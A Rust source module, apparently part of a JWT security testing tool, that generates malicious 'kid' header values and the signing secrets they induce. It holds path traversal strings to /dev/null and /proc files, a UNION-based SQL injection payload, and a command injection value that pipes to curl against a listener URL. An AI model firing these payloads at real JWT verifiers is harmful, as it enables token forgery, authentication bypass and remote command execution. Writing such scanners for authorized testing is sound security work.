//! Kids that are more than names, and the keys that a verifier takes for them that is taken in.

use super::flaw::Flaw;

/// A secret that a query or a command gives back.
const GIVEN: &[u8] = b"mintage";

/// The kid of a flaw that wants it looked up where no keys are. `listener` is an address that tells who fetches it.
pub(super) fn kid(flaw: Flaw, listener: Option<&str>) -> Option<String> {
    Some(match flaw {
        Flaw::KidPath => up("dev/null"),
        Flaw::KidFile => up("proc/sys/kernel/ostype"),
        Flaw::KidSql => "x' union select 'mintage' -- ".to_owned(),
        // In front of it may stand a path, and behind it the end of a file's name.
        Flaw::KidCommand => match listener {
            Some(url) => format!("|curl -s {url};printf mintage #"),
            None => "|printf mintage #".to_owned(),
        },
        _ => return None,
    })
}

fn up(path: &str) -> String {
    format!("{}{path}", "../".repeat(12))
}

/// The secret that a verifier takes for the key of this flaw: what is in the file, or what the query or the command gives back.
pub fn secret(flaw: Flaw) -> Option<&'static [u8]> {
    match flaw {
        Flaw::Hs256Empty | Flaw::KidPath => Some(b""),
        // Every Linux says this of itself.
        Flaw::KidFile => Some(b"Linux\n"),
        Flaw::KidSql | Flaw::KidCommand => Some(GIVEN),
        _ => None,
    }
}
